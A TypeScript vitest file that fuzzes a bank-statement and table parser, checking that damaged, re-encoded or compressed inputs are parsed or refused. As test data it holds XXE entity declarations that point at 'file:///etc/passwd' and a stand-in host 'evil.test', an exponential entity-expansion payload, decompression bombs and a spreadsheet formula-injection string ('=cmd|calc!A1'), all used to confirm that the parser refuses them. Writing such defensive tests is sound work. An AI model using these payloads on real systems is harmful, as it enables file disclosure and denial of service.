import { readdirSync, readFileSync } from 'node:fs'
import { deflateSync, gzipSync } from 'node:zlib'
import { zipSync } from 'fflate'
import { expect, it } from 'vitest'
import { seededRandom } from '../../src/demo/random.ts'
import { UnreadableStatement } from '../../src/domain/banking/bank-statement/booking.ts'
import { statementFormatOf, readStatement } from '../../src/domain/banking/bank-statement/read.ts'
import { decodeStatement } from '../../src/domain/banking/bank-statement/text.ts'
import { readTable, sampleOf } from '../../src/domain/workspace/record-import/table.ts'
import { share } from '../size.ts'

/** `ABUSE_SEED` selects other damage; `ABUSE_FILES` sets how many damaged variants each file has. */
const seed = Number(process.env['ABUSE_SEED'] ?? '1')
const rounds = Number(process.env['ABUSE_FILES'] ?? '25')

const folders = ['../statements/', '../imports/'].map((name) => new URL(name, import.meta.url))
const files = folders.flatMap((folder) =>
  readdirSync(folder).map((name) => [name, readFileSync(new URL(name, folder))] as const),
)

const money = /^-?\d+(?:\.\d+)?$/

/** Describes a failure to parse the bytes as a statement and as a table; undefined if they are parsed or properly refused. */
function faultOf(bytes: Buffer): string | undefined {
  try {
    const text = decodeStatement(bytes)
    for (const row of readStatement(text, statementFormatOf(text), {})) {
      if ('refused' in row) continue
      const { amount, date } = row.booking
      if (!money.test(amount.toString()) || !/^\d{4}-\d\d-\d\d$/.test(date))
        return `reads ${amount.toString()} on ${date}`
    }
  } catch (error) {
    if (!(error instanceof UnreadableStatement)) return `statement: ${String(error)}`
  }
  try {
    sampleOf(readTable(decodeStatement(bytes).replaceAll(/\r\n?/g, '\n'), 'client'))
  } catch (error) {
    if (!(error instanceof UnreadableStatement)) return `table: ${String(error)}`
  }
  return undefined
}

const insertions = [
  '\0',
  '\ufeff',
  '"',
  "'",
  ';',
  ',',
  '\t',
  '\n',
  '<',
  '>',
  '&',
  '&#0;',
  '&#x110000;',
  '&amp',
  '<![CDATA[',
  ']]>',
  '<!--',
  '-->',
  '<?x',
  '?>',
  ':61:',
  ':86:',
  ':20:',
  '-}',
  '\n-\n',
  '?20',
  '=cmd|calc!A1',
  '@SUM(1)',
  '1e999',
  'NaN',
  '-',
  '٣',
  '99999999999999999999',
  '9999-99-99',
  '\ud800',
  '\u2028',
]

function damaged(bytes: Buffer, round: number, name: string): Buffer {
  const random = seededRandom(seed * 7_919 + round * 104_729 + name.length)
  const at = random.whole(0, bytes.length - 1)
  const [before, behind] = [bytes.subarray(0, at), bytes.subarray(at)]
  switch (round % 6) {
    case 0:
      return before
    case 1:
      return behind
    case 2:
      return Buffer.concat([before, Buffer.from(random.pick(insertions).repeat(random.pick([1, 1, 50]))), behind])
    case 3:
      return Buffer.concat([before, bytes.subarray(Math.min(bytes.length, at + random.whole(1, 200)))])
    case 4:
      return Buffer.from(bytes).fill(random.whole(0, 255), at, Math.min(bytes.length, at + random.whole(1, 3)))
    default:
      return Buffer.concat([before, bytes.subarray(random.whole(0, at)), behind])
  }
}

it.each(share(files, 4))('%s is parsed or refused with any damage', (name, bytes) => {
  const faults = Array.from({ length: rounds }, (_, round) => {
    const fault = faultOf(damaged(bytes, round, name))
    return fault === undefined ? [] : [`seed ${seed}, round ${round}: ${fault}`]
  })
  expect(faults.flat()).toEqual([])
})

it.each(share(files, 4))('%s is parsed or refused in every encoding', (_, bytes) => {
  const text = bytes.toString('latin1')
  const spellings = [
    Buffer.from(text, 'utf16le'),
    Buffer.from(text, 'utf16le').swap16(),
    Buffer.from(`\ufeff${text}`, 'utf16le'),
    Buffer.from(`\ufeff\ufeff${text}`),
    Buffer.from(text).map((byte) => byte ^ 0x80),
    Buffer.concat([Buffer.from([0xff]), bytes]),
  ]
  expect(spellings.map((each) => faultOf(Buffer.from(each))).filter((fault) => fault !== undefined)).toEqual([])
})

const bomb = Buffer.alloc(20_000_000)

it.each([
  ['gzip', gzipSync(bomb)],
  ['a zip', Buffer.from(zipSync({ 'statement.csv': bomb }))],
  ['a zip in a zip', Buffer.from(zipSync({ 'inner.zip': zipSync({ 'a.csv': bomb }) }))],
])('a decompression bomb in %s is not unpacked', (_, bytes) => {
  expect(() => decodeStatement(bytes)).toThrow(UnreadableStatement)
})

it('compressed bytes are not a statement', () => {
  expect(faultOf(deflateSync(bomb))).toBeUndefined()
})

const camt = (inside: string, head = '') =>
  `<?xml version="1.0"?>${head}<Document><BkToCstmrStmt><Stmt><Ntry><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><BookgDt><Dt>2026-03-02</Dt></BookgDt><AddtlNtryInf>${inside}</AddtlNtryInf></Ntry></Stmt></BkToCstmrStmt></Document>`
const read = (text: string) => [...readStatement(text, statementFormatOf(text), {})]

it.each([
  ['an external DTD', camt('x', '<!DOCTYPE Document SYSTEM "http://evil.test/x.dtd">')],
  ['a public DTD', camt('x', '<!DOCTYPE Document PUBLIC "-//X//Y" "file:///etc/passwd">')],
  ['a parameter entity', camt('x', '<!DOCTYPE d [<!ENTITY % a SYSTEM "http://evil.test/"> %a;]>')],
  [
    'entities that double',
    camt(
      '&e;',
      `<!DOCTYPE d [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY e${at} "&e${at - 1};&e${at - 1};">`).join('')}]>`,
    ),
  ],
  ['a document type after a comment', camt('x', '<!-- --><!DOCTYPE d [<!ENTITY e "x">]>')],
  ['an entity in the middle', camt('<!ENTITY e SYSTEM "file:///etc/passwd">')],
  [
    'an external entity in OFX',
    `OFXHEADER:100\n\n<!DOCTYPE OFX [<!ENTITY e SYSTEM "file:///etc/passwd">]><OFX><STMTTRN><NAME>&e;</STMTTRN></OFX>`,
  ],
])('a statement with %s is refused', (_, text) => {
  expect(() => read(text)).toThrow(/document type or entities/)
})

it('undeclared XML entities stay plain text', () => {
  const [row] = read(camt('&e; &lt;b&gt; <![CDATA[&e;<i>]]> &#65;&#x42;'))
  const description = row && 'booking' in row ? row.booking.description : ''
  expect(description).toContain('<b>')
  expect(description).not.toMatch(/root:|undefined/)
})
